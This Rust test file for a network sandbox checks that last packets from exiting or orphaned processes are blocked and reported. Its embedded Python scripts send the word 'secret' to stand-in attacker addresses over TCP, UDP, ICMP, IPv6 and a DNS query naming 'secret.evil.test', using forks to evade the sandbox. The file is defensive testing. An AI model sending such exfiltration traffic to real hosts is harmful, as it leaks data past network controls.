//! What a job sends last, before it exits without waiting for anything: it stays inside, and is told.

use std::collections::HashSet;
use std::fs;
use std::time::Duration;

use nix::sys::signal::Signal;

use crate::jail::Jail;
use crate::outcome::Event;
use crate::running::Running;
use crate::suite::{Mode, Suite, both};
use crate::wait::poll_for;
use crate::world::World;

const ROUNDS: usize = 50;
const SOON: Duration = Duration::from_secs(5);

pub(crate) fn add(suite: &mut Suite) {
    both!(suite, last_packets_are_told, last_packets_of_survivors_are_told, last_packets_arrive);
}

/// An orphan goes on sending while the command ends, and writes down each datagram that it has sent.
fn last_packets_of_survivors_are_told(mode: Mode) {
    let world = World::new();
    let script = "\
import itertools, os, socket, time
if os.fork(): time.sleep(0.05); os._exit(0)
if os.fork(): os._exit(0)
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for port in itertools.count(10000):
    sock.sendto(b'secret', ('198.51.100.66', port))
    os.write(1, b'%d\\n' % port)
";
    let jail = Jail::new(&world, mode).allow("good.test");
    let mut untold = Vec::new();
    for round in 0..ROUNDS {
        let outcome = jail.run(["/usr/bin/python3", "-c", script]);
        outcome.assert_success();
        let told: HashSet<u16> = outcome.denied().into_iter().filter_map(|event| event.port).collect();
        let sent = outcome.stdout.lines().map(|line| line.parse::<u16>().unwrap());
        assert!(sent.clone().count() > 0, "{outcome}");
        untold.extend(sent.filter(|port| !told.contains(port)).map(|port| format!("{round}: {port}")));
    }
    assert!(untold.is_empty(), "{} have no event: {untold:?}", untold.len());
    assert!(!world.wire().saw_bytes(b"secret"));
}

/// One of each kind, which the gateway finds together with the end: it is stopped meanwhile.
fn last_packets_are_told(mode: Mode) {
    let world = World::new();
    let script = "\
import os, socket, struct, sys
question = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\\x06secret\\x04evil\\x04test\\0' + struct.pack('>2H', 1, 1)
datagram = lambda family, *protocol: socket.socket(family, socket.SOCK_DGRAM, *protocol)
print('ready', flush=True)
sys.stdin.readline()
socket.create_connection(('198.51.100.66', 4444), 3).sendall(b'secret')
# Without the right to ping it is UDP-Lite that the rules drop.
try: ping = datagram(socket.AF_INET, socket.IPPROTO_ICMP)
except OSError: ping = datagram(socket.AF_INET, 136)
ping.sendto(bytes([8, 0, 0, 0, 0, 0, 0, 0]) + b'secret', ('198.51.100.67', 9))
datagram(socket.AF_INET6).sendto(b'secret', ('2001:db8:bad::66', 9))
datagram(socket.AF_INET).sendto(question, ('203.0.113.53', 53))
datagram(socket.AF_INET).sendto(b'secret', ('198.51.100.66', 9))
os._exit(0)
";
    let jail = Jail::new(&world, mode).allow("good.test").allow("203.0.113.53:53");
    let wanted =
        ["198.51.100.66:9", "198.51.100.66:4444", "198.51.100.67:", "2001:db8:bad::66:9", "203.0.113.53:53"];
    let mut untold = Vec::new();
    for round in 0..ROUNDS {
        let mut running = jail.start(["/usr/bin/python3", "-c", script]);
        running.wait_for("ready");
        running.signal(Signal::SIGSTOP);
        running.type_in(b"\n");
        assert!(poll_for(SOON, || has_ended(&running).then_some(())).is_some(), "the job ends by itself");
        running.signal(Signal::SIGCONT);
        let outcome = running.finish();
        outcome.assert_success();
        let told: Vec<String> = outcome.denied().into_iter().map(target).collect();
        let missing = wanted.iter().filter(|target| !told.iter().any(|told| told.starts_with(*target)));
        untold.extend(missing.map(|target| format!("{round}: {target}")));
    }
    assert!(untold.is_empty(), "{} have no event: {untold:?}", untold.len());
    assert!(!world.wire().saw_bytes(b"secret"));
    world.assert_attacker_saw_nothing();
}

/// What is allowed arrives, though its sender is gone.
fn last_packets_arrive(mode: Mode) {
    let world = World::new();
    let (streams, address) = world.tcp_echo("good.test", 7007, b"");
    let (datagrams, other) = world.udp_echo("time.test", 123);
    let script = format!(
        "import os, socket, sys\n\
         print('ready', flush=True)\n\
         sys.stdin.readline()\n\
         socket.create_connection(('{address}', 7007), 3).sendall(b'last words')\n\
         socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'last words', ('{other}', 123))\n\
         os._exit(0)\n"
    );
    let jail = Jail::new(&world, mode).allow(&format!("{address}:7007")).allow(&format!("{other}:123/udp"));
    let mut running = jail.start(["/usr/bin/python3", "-c", &script]);
    running.wait_for("ready");
    running.signal(Signal::SIGSTOP);
    running.type_in(b"\n");
    assert!(poll_for(SOON, || has_ended(&running).then_some(())).is_some(), "the job ends by itself");
    running.signal(Signal::SIGCONT);
    running.finish().assert_success().assert_allowed("tcp", &address.to_string());
    let arrived = || (streams.contains(b"last words") && datagrams.contains(b"last words")).then_some(());
    assert!(poll_for(SOON, arrived).is_some(), "{} {}", streams.connections(), datagrams.connections());
}

fn target(event: &Event) -> String {
    let port = event.port.map(|port| port.to_string()).unwrap_or_default();
    format!("{}:{port}", event.dst.as_deref().unwrap_or_default())
}

/// Whether the job's init has ended, which a stopped gateway cannot take note of.
fn has_ended(running: &Running) -> bool {
    let pid = running.pid();
    let children = fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap();
    children.split_whitespace().all(|child| {
        let stat = fs::read_to_string(format!("/proc/{child}/stat")).unwrap_or_default();
        stat.rsplit_once(") ").is_none_or(|(_, rest)| rest.starts_with('Z'))
    })
}
